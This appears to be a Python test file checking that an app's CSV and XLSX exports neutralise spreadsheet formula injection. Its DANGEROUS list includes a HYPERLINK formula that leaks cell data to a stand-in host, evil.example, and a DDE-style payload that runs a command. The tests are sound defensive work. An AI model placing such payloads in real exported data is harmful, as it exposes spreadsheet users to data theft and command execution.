"""An exported spreadsheet never runs a formula stored in a record's text.

Exported through the admin exactly as an archivist does, then read back: CSV with the
csv module (a cell starting with =, +, -, @, tab or CR gets a leading apostrophe), XLSX
with openpyxl (every text is a text cell, never a formula, and keeps its exact text).
"""

import csv
import io

import openpyxl
import pytest

from people.factories import PersonFactory
from sources.factories import SourceFactory
from tests.admin.test_import_export import export
from ventures.factories import VentureFactory
from ventures.models import Venture

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def ventures(db):
    return [VentureFactory(name=name, slug=f"venture-{n}") for n, name in enumerate(DANGEROUS)]


def test_csv_export_neutralises_every_formula_start(admin_client, ventures):
    response = export(admin_client, Venture, "csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {row["slug"]: row["name"] for row in rows}
    for n, name in enumerate(DANGEROUS):
        assert names[f"venture-{n}"] == "'" + name


def test_csv_export_leaves_plain_numbers_and_text_alone(admin_client, db):
    VentureFactory(name="Noko Jeans", slug="noko", founded_year=2009)
    response = export(admin_client, Venture, "csv")
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert (row["name"], row["founded_year"]) == ("Noko Jeans", "2009")


def test_xlsx_export_writes_text_cells_never_formulas(admin_client, ventures):
    response = export(admin_client, Venture, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    name, slug = header.index("name"), header.index("slug")
    by_slug = {row[slug].value: row[name] for row in rows[1:]}
    for n, text in enumerate(DANGEROUS):
        cell = by_slug[f"venture-{n}"]
        assert cell.data_type == "s"
        # XML reads a carriage return back as a line feed; the text is otherwise exact.
        assert cell.value == text.replace("\r", "\n")
    formulas = [c for row in rows for c in row if c.data_type == "f"]
    assert formulas == []


def test_every_text_column_is_covered_not_only_names(admin_client, db):
    PersonFactory(description="=1+1")
    SourceFactory(title="@evil")
    from people.models import Person
    from sources.models import Source

    people = export(admin_client, Person, "csv").content.decode()
    assert ",'=1+1," in people or "'=1+1" in people
    sources = export(admin_client, Source, "csv").content.decode()
    assert "'@evil" in sources


def test_the_api_csv_neutralises_formulas_too(client, ventures):
    text = client.get("/api/v1/ventures/?format=csv").content.decode()
    names = {row["slug"]: row["name"] for row in csv.DictReader(io.StringIO(text))}
    assert names["venture-0"] == "'" + DANGEROUS[0]
    assert names["venture-2"] == "'-2+3"
